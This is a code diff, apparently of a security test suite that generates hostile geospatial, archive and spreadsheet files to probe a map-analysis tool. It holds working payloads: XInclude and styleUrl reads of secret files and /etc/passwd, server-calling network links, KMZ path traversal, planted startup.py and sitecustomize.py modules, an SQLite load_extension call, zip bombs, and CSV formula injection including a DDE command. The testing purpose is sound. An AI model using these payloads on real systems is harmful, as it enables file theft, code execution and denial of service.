@@ -6,7 +6,7 @@ import io
 import json
 import zipfile
 
-from .attack import EVIL, OWN, RING, Site, attack, geojson, gml, gpx, kml, vrt
+from .attack import EVIL, FACTION_DATA, OWN, WKT, Site, attack, geojson, gml, gpx, kml, vrt
 
 MAPS = ("folder", "preview")
 ENDINGS = ("kml", "gml", "gpx", "geojson", "json", "gpkg", "shp", "fgb")
@@ -163,7 +163,13 @@ def _(site):
 @attack("virtual", "text-address", "a map whose text is an address, a database, a path", "folder", keeps=True)
 def _(site):
     port = site.listener.raw_port
-    texts = (site.url(), f"PG:host=127.0.0.1 port={port}", f"/vsicurl/{site.url()}", str(site.secret), "WFS:" + site.url())
+    texts = (
+        site.url(),
+        f"PG:host=127.0.0.1 port={port}",
+        f"/vsicurl/{site.url()}",
+        str(site.secret),
+        "WFS:" + site.url(),
+    )
     for number, text in enumerate(texts):
         site.write(f"2017-11-0{number + 1}.geojson", text)
 
@@ -263,13 +269,17 @@ def _(site):
 
 @attack("markup", "gml-xlink", "GML whose members are links to a server", *MAPS)
 def _(site):
-    more = f'<gml:featureMember xlink:href="{site.url("m.gml")}"/><gml:featureMember><m><gml:polygonProperty xlink:href='
+    more = (
+        f'<gml:featureMember xlink:href="{site.url("m.gml")}"/><gml:featureMember><m><gml:polygonProperty xlink:href='
+    )
     return site.write("2017-10-01.gml", gml(more=f'{more}"{site.url("p.gml")}#x"/></m></gml:featureMember>'))
 
 
 @attack("markup", "gml-srs", "GML whose reference system is an address", *MAPS)
 def _(site):
-    return site.write("2017-10-01.gml", gml().replace("<gml:Polygon>", f'<gml:Polygon srsName="{site.url("epsg.xml")}">'))
+    return site.write(
+        "2017-10-01.gml", gml().replace("<gml:Polygon>", f'<gml:Polygon srsName="{site.url("epsg.xml")}">')
+    )
 
 
 @attack("markup", "gml-gfs", "GML beside a .gfs with a class of another file", *MAPS)
@@ -293,14 +303,18 @@ def _(site):
 
 @attack("markup", "xml-doctype", "KML and GML whose document type is on a server", *MAPS)
 def _(site):
-    doctype = f'<!DOCTYPE kml SYSTEM "{site.url("kml.dtd")}"><?xml-stylesheet href="{site.url("x.xsl")}" type="text/xsl"?>'
+    doctype = (
+        f'<!DOCTYPE kml SYSTEM "{site.url("kml.dtd")}"><?xml-stylesheet href="{site.url("x.xsl")}" type="text/xsl"?>'
+    )
     site.write("2017-10-02.gml", gml(before=doctype.replace("kml SYSTEM", "gml SYSTEM")))
     return site.write("2017-10-01.kml", kml(before=doctype))
 
 
 @attack("markup", "xinclude", "KML and GML that include a file by XInclude", *MAPS)
 def _(site):
-    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{site.home}/secret.txt" parse="text"/>'
+    include = (
+        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{site.home}/secret.txt" parse="text"/>'
+    )
     site.write("2017-10-02.gml", gml(more=include))
     return site.write("2017-10-01.kml", kml(include))
 
@@ -311,7 +325,9 @@ def _(site):
         f"<NetworkLink><name>x</name><{tag}><href>{site.url(tag)}</href><refreshMode>onInterval</refreshMode></{tag}>"
         "</NetworkLink>" for tag in ("Link", "Url")
     )  # fmt: skip
-    return site.write("2017-10-01.kml", kml(links + f"<NetworkLinkControl><message>{EVIL}</message></NetworkLinkControl>"))
+    return site.write(
+        "2017-10-01.kml", kml(links + f"<NetworkLinkControl><message>{EVIL}</message></NetworkLinkControl>")
+    )
 
 
 @attack("markup", "kml-overlays", "KML with overlays, icons, models and styles on a server", *MAPS, "batch", reads=True)
@@ -323,18 +339,22 @@ def _(site):
         f"<img src='{site.url('k')}'>]]></text></BalloonStyle></Style><StyleMap id='b'><Pair><key>normal</key>"
         f"<styleUrl>{site.url('s.kml')}#a</styleUrl></Pair></StyleMap>"
     )
-    return site.write("2017-10-01.kml", kml(parts, style=f"<styleUrl>{site.url('t.kml')}#a</styleUrl>"))
+    return site.write(
+        "2017-10-01.kml", kml(parts, style=f"<styleUrl>{site.url('t.kml')}#a</styleUrl>{FACTION_DATA.format(OWN)}")
+    )
 
 
-@attack("markup", "kml-schema-url", "KML whose data name a schema on a server", *MAPS, reads=True)
+@attack("markup", "kml-schema-url", "KML whose data name a schema on a server", *MAPS, reads=None)
 def _(site):
-    data = f'<ExtendedData><SchemaData schemaUrl="{site.url("s.kml")}#x"><SimpleData name="a">b</SimpleData></SchemaData>'
+    data = f'<ExtendedData><Data name="faction"><value>{OWN}</value></Data><SchemaData schemaUrl="{site.url("s.kml")}#x"><SimpleData name="a">b</SimpleData></SchemaData>'
     return site.write("2017-10-01.kml", kml(style=f"{data}</ExtendedData>"))
 
 
 @attack("markup", "kml-style-local", "KML whose style is in a file of the analyst", *MAPS, reads=True)
 def _(site):
-    return site.write("2017-10-01.kml", kml(style=f"<styleUrl>file://{site.home}/secret.txt#x</styleUrl>"))
+    return site.write(
+        "2017-10-01.kml", kml(style=f"<styleUrl>file:///etc/passwd#x</styleUrl>{FACTION_DATA.format(OWN)}")
+    )
 
 
 @attack("markup", "gpx-links", "GPX with links and a schema on a server", "movements")
@@ -366,7 +386,9 @@ def _(site):
 
 @attack("markup", "topojson", "TopoJSON and JSON of other kinds with addresses", *MAPS)
 def _(site):
-    site.write("2017-10-02.json", json.dumps({"$schema": site.url("schema"), "type": "FeatureCollection", "features": []}))
+    site.write(
+        "2017-10-02.json", json.dumps({"$schema": site.url("schema"), "type": "FeatureCollection", "features": []})
+    )
     objects = {"x": {"type": "GeometryCollection", "geometries": []}}
     return site.write("2017-10-01.topojson", json.dumps({"type": "Topology", "href": site.url(), "objects": objects}))
 
@@ -383,8 +405,7 @@ def _(site):
     layer.CreateField(ogr.FieldDefn("faction", ogr.OFTString))
     feature = ogr.Feature(layer.GetLayerDefn())
     feature["faction"] = OWN
-    ring = ", ".join(pair.replace(",", " ") for pair in RING.split())
-    feature.SetGeometry(ogr.CreateGeometryFromWkt(f"POLYGON (({ring}))"))
+    feature.SetGeometry(ogr.CreateGeometryFromWkt(WKT))
     layer.CreateFeature(feature)
     feature = layer = dataset = None
     site.write("2017-10-01.prj", site.url("epsg.prj"))
@@ -419,14 +440,32 @@ def _(site):
     return site.map()
 
 
-@attack("neighbours", "qgis-files", "projects, layer definitions, styles, scripts and settings in the folder", *MAPS, "batch", reads=True)
+@attack(
+    "neighbours",
+    "qgis-files",
+    "projects, layer definitions, styles, scripts and settings in the folder",
+    *MAPS,
+    "batch",
+    reads=True,
+)
 def _(site):
     ran = f"open({str(site.home / 'ran')!r}, 'w')"
-    for name in ("startup.py", "numpy.py", "shapely.py", "osgeo.py", "sitecustomize.py", "conftest.py", "2017-10-01.py"):
+    for name in (
+        "startup.py",
+        "numpy.py",
+        "shapely.py",
+        "osgeo.py",
+        "sitecustomize.py",
+        "conftest.py",
+        "2017-10-01.py",
+    ):
         site.write(name, ran)
     expression = f"[% eval('{site.url()}') %]"
     site.write("2017-10-01.qml", f'<!DOCTYPE qgis><qgis><label url="{site.url("q")}">{expression}</label></qgis>')
-    site.write("2017-10-01.qgs", f"<qgis><projectlayers><maplayer><datasource>{site.url()}</datasource></maplayer></projectlayers></qgis>")
+    site.write(
+        "2017-10-01.qgs",
+        f"<qgis><projectlayers><maplayer><datasource>{site.url()}</datasource></maplayer></projectlayers></qgis>",
+    )
     site.write("2017-10-01.qlr", f"<qlr><datasource>/vsicurl/{site.url()}</datasource></qlr>")
     site.write("2017-10-01.qgz", b"PK\5\6" + b"\0" * 18)
     site.write("gdalrc", "[configoptions]\nGDAL_DRIVER_PATH=.\n")
@@ -459,7 +498,22 @@ def _(site):
 
 @attack("neighbours", "dxf", "a DXF drawing with references to other files", *MAPS, "file")
 def _(site):
-    lines = ["0", "SECTION", "2", "BLOCKS", "0", "BLOCK", "2", "x", "70", "4", "1", str(site.home / "secret.txt"), "0", "ENDBLK"]
+    lines = [
+        "0",
+        "SECTION",
+        "2",
+        "BLOCKS",
+        "0",
+        "BLOCK",
+        "2",
+        "x",
+        "70",
+        "4",
+        "1",
+        str(site.home / "secret.txt"),
+        "0",
+        "ENDBLK",
+    ]
     return site.write("2017-10-01.dxf", "\n".join([*lines, "0", "ENDSEC", "0", "EOF"]))
 
 
@@ -495,7 +549,15 @@ def _(site):
         archive.writestr("2017-10-02.geojson", geojson({"faction": OWN}))
 
 
-@attack("containers", "zip-vrt", "a zip with virtual sources, services and links in it", "folder", "preview", "file", "batch")
+@attack(
+    "containers",
+    "zip-vrt",
+    "a zip with virtual sources, services and links in it",
+    "folder",
+    "preview",
+    "file",
+    "batch",
+)
 def _(site):
     members = {
         "2017-10-01.kml": _reading_secret(site),
@@ -516,7 +578,7 @@ def _(site):
 
 @attack("containers", "kmz", "a KMZ whose members lead out of it, with links", *MAPS, "file")
 def _(site):
-    picture = f"<GroundOverlay><Icon><href>../../{site.home.name}/secret.txt</href></Icon></GroundOverlay>"
+    picture = "<GroundOverlay><Icon><href>../../../secret.txt</href></Icon></GroundOverlay>"
     link = f"<NetworkLink><Link><href>{site.url('kmz')}</href></Link></NetworkLink>"
     return site.zip("2017-10-01.kmz", {"doc.kml": kml(picture + link), "../../evil.kml": kml(faction=EVIL)})
 
@@ -538,14 +600,16 @@ def _(site):
     return site.zip("2017-10-01.shz", {"x.vrt": _reading_secret(site), "../y.shp": b"x"})
 
 
-@attack("containers", "gpkg-view", "a GeoPackage with views, triggers, virtual tables and generated columns", *MAPS, "batch")
+@attack(
+    "containers", "gpkg-view", "a GeoPackage with views, triggers, virtual tables and generated columns", *MAPS, "batch"
+)
 def _(site):
     views = (
         "CREATE VIEW evil AS SELECT fid + 100 AS fid, geom, load_extension('/tmp/x') AS faction FROM map",
         "INSERT INTO gpkg_contents (table_name, identifier, data_type, srs_id) VALUES ('evil', 'evil', 'features', 4326)",
         "INSERT INTO gpkg_geometry_columns VALUES ('evil', 'geom', 'POLYGON', 4326, 0, 0)",
         "CREATE TRIGGER t AFTER INSERT ON map BEGIN DELETE FROM gpkg_contents; END",
-        "ALTER TABLE map ADD COLUMN g GENERATED ALWAYS AS (hex(randomblob(1000)))",
+        "ALTER TABLE map ADD COLUMN g GENERATED ALWAYS AS (hex(faction))",
     )
     return site.gpkg("2017-10-01.gpkg", *views)
 
@@ -561,7 +625,7 @@ def _(site):
     return site.gpkg("2017-10-01.gpkg", *views)
 
 
-@attack("containers", "gpkg-endless-view", "a GeoPackage with a view that never ends", *MAPS, seconds=20)
+@attack("containers", "gpkg-endless-view", "a GeoPackage with a view that never ends", *MAPS, seconds=6)
 def _(site):
     rows = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS fid, NULL AS geom, 'x' AS faction FROM n"
     views = (
@@ -572,7 +636,14 @@ def _(site):
     return site.gpkg("2017-10-01.gpkg", *views)
 
 
-@attack("containers", "gpkg-styles", "a GeoPackage map with a stored style and metadata that ask a server", *MAPS, "batch", reads=True)
+@attack(
+    "containers",
+    "gpkg-styles",
+    "a GeoPackage map with a stored style and metadata that ask a server",
+    *MAPS,
+    "batch",
+    keeps=False,
+)
 def _(site):
     style = f"<qgis><layer><prop k=''name'' v=''{site.url('s.svg')}''/></layer></qgis>"
     return site.gpkg(
@@ -615,15 +686,21 @@ def _(site):
 
 @attack("containers", "ods", "a spreadsheet with macros, formulas and links", "movements", "events", "reports")
 def _(site):
-    formula = f'of:=WEBSERVICE(&quot;{site.url("w")}&quot;)'
-    cell = f'<table:table-cell table:formula="{formula}" office:value-type="string"><text:p>x</text:p></table:table-cell>'
+    formula = f"of:=WEBSERVICE(&quot;{site.url('w')}&quot;)"
+    cell = (
+        f'<table:table-cell table:formula="{formula}" office:value-type="string"><text:p>x</text:p></table:table-cell>'
+    )
     content = (
         '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
         'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
         f'<office:body><office:spreadsheet><table:table table:name="s"><table:table-row>{cell}</table:table-row></table:table>'
         "</office:spreadsheet></office:body></office:document-content>"
     )
-    members = {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content, "Basic/x.xml": "<macro/>"}
+    members = {
+        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
+        "content.xml": content,
+        "Basic/x.xml": "<macro/>",
+    }
     return site.zip("table.ods", members)
 
 
@@ -635,8 +712,12 @@ def _(site):
 @attack("containers", "shp-lies", "a Shapefile whose header claims gigabytes", *MAPS, "file", reads=False)
 def _(site):
     head = (9994).to_bytes(4, "big") + b"\0" * 20 + (0x7FFFFFFF).to_bytes(4, "big") + (1000).to_bytes(4, "little")
-    site.write("2017-10-01.shx", head + (5).to_bytes(4, "little") + b"\0" * 64 + (b"\0\0\0\x32" + b"\x3f\xff\xff\xff") * 20)
-    return site.write("2017-10-01.shp", head + (5).to_bytes(4, "little") + b"\0" * 64 + (b"\0\0\0\1" + b"\x3f\xff\xff\xff") * 20)
+    site.write(
+        "2017-10-01.shx", head + (5).to_bytes(4, "little") + b"\0" * 64 + (b"\0\0\0\x32" + b"\x3f\xff\xff\xff") * 20
+    )
+    return site.write(
+        "2017-10-01.shp", head + (5).to_bytes(4, "little") + b"\0" * 64 + (b"\0\0\0\1" + b"\x3f\xff\xff\xff") * 20
+    )
 
 
 def nested_zip(content: bytes, levels: int) -> bytes:
@@ -654,6 +735,125 @@ def _(site):
     return site.write("maps.zip", nested_zip(geojson({"faction": OWN}).encode(), 40))
 
 
-@attack("containers", "zip-many", "a zip of 30,000 empty maps", "folder", "preview", seconds=30)
+@attack("containers", "zip-many", "a zip of 5,000 empty maps", "folder", "preview")
 def _(site):
-    return site.zip("maps.zip", {f"2017-10-01/{number}.geojson": "" for number in range(30_000)})
+    return site.zip("maps.zip", {f"2017-10-01/{number}.geojson": "" for number in range(5_000)})
+
+
+# Layers that the analyst has opened, and tables
+
+
+@attack(
+    "tables",
+    "layer-vrt",
+    "a layer of the project that is a virtual source",
+    "layer",
+    is_open=True,
+    words="virtual|OGR_VRT|open",
+)
+def _(site):
+    return site.write("2017-10-01.vrt", vrt(str(site.folder / "2017-09-01.geojson"), layer="2017-09-01"))
+
+
+@attack(
+    "tables",
+    "vrt-tables",
+    "a virtual source as a table",
+    "movements",
+    "events",
+    "reports",
+    "places",
+    "area",
+    "analysis",
+    reads=False,
+)
+def _(site):
+    site.write(
+        "own.csv",
+        f"id,faction,date,time,lon,lat,place,holder,side_a,side_b\na,{EVIL},2017-10-01,,36,35,a,{EVIL},{EVIL},GOV\n",
+    )
+    return site.write("m.csv", vrt(str(site.at("own.csv")), layer="own"))
+
+
+@attack(
+    "tables",
+    "vrt-tables-json",
+    "the same as .geojson",
+    "movements",
+    "events",
+    "reports",
+    "places",
+    "area",
+    "analysis",
+    reads=False,
+)
+def _(site):
+    return site.write("m.geojson", _reading_secret(site))
+
+
+@attack(
+    "tables",
+    "vrt-tables-curl",
+    "a virtual source that asks a server, as a table",
+    "movements",
+    "events",
+    "reports",
+    "places",
+    "area",
+    "analysis",
+)
+def _(site):
+    return site.write("m.gml", _asking(site))
+
+
+@attack(
+    "tables",
+    "crs-link-tables",
+    "a link for a CRS in the points of events and reports",
+    "movements",
+    "events",
+    "reports",
+    "area",
+    "analysis",
+)
+def _(site):
+    return site.map("m.geojson", crs={"type": "link", "properties": {"href": site.url("crs")}})
+
+
+HEAD = "date,side_a,side_b,lon,lat,note\n"
+
+
+@attack("tables", "csv-quote", "a stray quotation mark that hides the rows after it", "events", words="quotation|quote")
+def _(site):
+    rows = "".join(f"2017-10-0{day},GOV,OPP,36.5,35.5,note\n" for day in range(1, 8))
+    return site.write("m.csv", HEAD + '2017-10-01,GOV,OPP,36.5,35.5,"a\n' + rows)
+
+
+@attack("tables", "csv-short", "short and long rows", "events", words="cells|columns")
+def _(site):
+    return site.write(
+        "m.csv", HEAD + "2017-10-01,GOV\n2017-10-02,GOV,OPP,36.5,35.5,x,y,z\n2017-10-03,GOV,OPP,36.5,35.5,x\n"
+    )
+
+
+@attack("tables", "csv-odd", "zeros, other ends of lines, other encodings, byte order marks", "events", "movements")
+def _(site):
+    return site.write(
+        "m.csv",
+        ("\ufeff" + HEAD + "2017-10-01,GOV,OPP,36.5,35.5,\x00\r2017-10-02,GOV,OPP,36.5,35.5,\x85\u2028x\n").encode(
+            "utf-16"
+        ),
+    )
+
+
+@attack("tables", "csv-formula", "formulas in a table, and in the report on it", "events", "movements", "reports")
+def _(site):
+    return site.write("m.csv", HEAD + f"=WEBSERVICE(\"{site.url()}\"),=1+1,@x,+36.5,-35.5,=cmd|' /C calc'!A0\n")
+
+
+@attack("tables", "csv-wkt", "WKT nested 100,000 deep in a table", "movements")
+def _(site):
+    return site.write(
+        "m.csv",
+        "id,faction,date,wkt\na,OPP,2017-10-01," + '"' + "GEOMETRYCOLLECTION(" * 100_000 + ")" * 100_000 + '"\n',
+    )
